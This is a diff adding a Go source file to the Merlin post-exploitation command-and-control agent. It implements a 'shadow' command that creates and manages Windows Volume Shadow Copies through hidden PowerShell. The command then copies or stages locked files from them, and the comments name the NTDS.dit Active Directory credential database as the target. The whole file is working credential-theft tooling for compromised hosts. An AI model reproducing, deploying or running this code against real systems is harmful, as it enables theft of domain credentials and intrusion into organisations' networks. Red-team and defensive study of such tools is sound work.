@@ -0,0 +1,205 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/staging"
+)
+
+// shadowCopy is a Volume Shadow Copy from the Win32_ShadowCopy WMI class
+type shadowCopy struct {
+	id      string
+	device  string
+	volume  string
+	created string
+}
+
+// Shadow lists, creates, and deletes Volume Shadow Copies through the Win32_ShadowCopy WMI class and extracts files
+// from them, which allows copying files that are locked by a running service such as NTDS.dit
+// shadow list
+// shadow create [volume]
+// shadow delete <id>
+// shadow copy <device> <file> <destination>
+// shadow stage <device> <file>
+func Shadow(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Shadow() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the shadow command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "list":
+		copies, err := listShadows()
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		var findings []FindingRecord
+		for _, c := range copies {
+			findings = append(findings, FindingRecord{Category: "shadow", Name: c.id, Value: fmt.Sprintf("device=%s volume=%s created=%s", c.device, c.volume, c.created)})
+		}
+		results.Stdout = findingsText(findings)
+		if len(findings) == 0 {
+			results.Stdout = "there are no shadow copies"
+		}
+		structured = newStructured("shadow", findings)
+	case "create":
+		volume := "C:\\"
+		if len(cmd.Args) > 1 {
+			volume = cmd.Args[1]
+		}
+		c, err := createShadow(volume)
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Created shadow copy %s of %s at %s", c.id, volume, c.device)
+	case "delete":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the shadow delete command"
+			return
+		}
+		if err := deleteShadow(cmd.Args[1]); err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Deleted shadow copy %s", cmd.Args[1])
+	case "copy":
+		if len(cmd.Args) < 4 {
+			results.Stderr = "not enough arguments provided to the shadow copy command"
+			return
+		}
+		n, err := copyFromShadow(cmd.Args[1], cmd.Args[2], cmd.Args[3])
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Copied %d bytes from %s in %s to %s", n, cmd.Args[2], cmd.Args[1], cmd.Args[3])
+	case "stage":
+		if len(cmd.Args) < 3 {
+			results.Stderr = "not enough arguments provided to the shadow stage command"
+			return
+		}
+		data, err := os.ReadFile(shadowPath(cmd.Args[1], cmd.Args[2]))
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error reading %s from the shadow copy: %s", cmd.Args[2], err)
+			return
+		}
+		id, err := staging.Add(filepath.Base(cmd.Args[2]), data)
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Staged %d bytes from %s as %s", len(data), cmd.Args[2], id)
+	default:
+		results.Stderr = fmt.Sprintf("unknown shadow command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// listShadows returns the shadow copies on the host
+func listShadows() (copies []shadowCopy, err error) {
+	out, err := shadowPowerShell(`Get-CimInstance Win32_ShadowCopy | ForEach-Object { "$($_.ID)|$($_.DeviceObject)|$($_.VolumeName)|$($_.InstallDate)" }`)
+	if err != nil {
+		return nil, err
+	}
+	for _, line := range strings.Split(out, "\n") {
+		fields := strings.Split(strings.TrimSpace(line), "|")
+		if len(fields) == 4 {
+			copies = append(copies, shadowCopy{id: fields[0], device: fields[1], volume: fields[2], created: fields[3]})
+		}
+	}
+	return
+}
+
+// createShadow creates a client accessible shadow copy of the volume and returns it
+func createShadow(volume string) (shadowCopy, error) {
+	if !strings.HasSuffix(volume, "\\") {
+		volume += "\\"
+	}
+	script := fmt.Sprintf(`$r = Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{Volume=%s; Context='ClientAccessible'}
+if ($r.ReturnValue -ne 0) { throw "Win32_ShadowCopy.Create returned $($r.ReturnValue)" }
+$s = Get-CimInstance Win32_ShadowCopy -Filter "ID='$($r.ShadowID)'"
+"$($s.ID)|$($s.DeviceObject)"`, psQuote(volume))
+	out, err := shadowPowerShell(script)
+	if err != nil {
+		return shadowCopy{}, fmt.Errorf("there was an error creating a shadow copy of %s: %s", volume, err)
+	}
+	fields := strings.Split(strings.TrimSpace(out), "|")
+	if len(fields) != 2 {
+		return shadowCopy{}, fmt.Errorf("unexpected output creating a shadow copy of %s: %s", volume, out)
+	}
+	return shadowCopy{id: fields[0], device: fields[1], volume: volume}, nil
+}
+
+// deleteShadow deletes the shadow copy with the ID
+func deleteShadow(id string) error {
+	_, err := shadowPowerShell(fmt.Sprintf("Get-CimInstance Win32_ShadowCopy -Filter \"ID='%s'\" | Remove-CimInstance", strings.ReplaceAll(id, "'", "")))
+	if err != nil {
+		return fmt.Errorf("there was an error deleting shadow copy %s: %s", id, err)
+	}
+	return nil
+}
+
+// shadowPath joins the shadow copy's device object, such as \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1, with
+// the path of a file on the original volume, such as C:\Windows\NTDS\ntds.dit
+func shadowPath(device, file string) string {
+	if len(file) > 1 && file[1] == ':' {
+		file = file[2:]
+	}
+	return strings.TrimSuffix(device, "\\") + "\\" + strings.TrimPrefix(file, "\\")
+}
+
+// copyFromShadow copies a file from the shadow copy to the destination and returns the number of bytes copied
+func copyFromShadow(device, file, destination string) (int64, error) {
+	src, err := os.Open(shadowPath(device, file))
+	if err != nil {
+		return 0, fmt.Errorf("there was an error opening %s in the shadow copy: %s", file, err)
+	}
+	defer src.Close()
+	dst, err := os.OpenFile(destination, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0600)
+	if err != nil {
+		return 0, fmt.Errorf("there was an error creating %s: %s", destination, err)
+	}
+	defer dst.Close()
+	return io.Copy(dst, src)
+}
+
+// shadowPowerShell runs a PowerShell script with the agent's token and returns its output
+func shadowPowerShell(script string) (string, error) {
+	args := powershell(script)
+	return runHidden(args[0], args[1:]...)
+}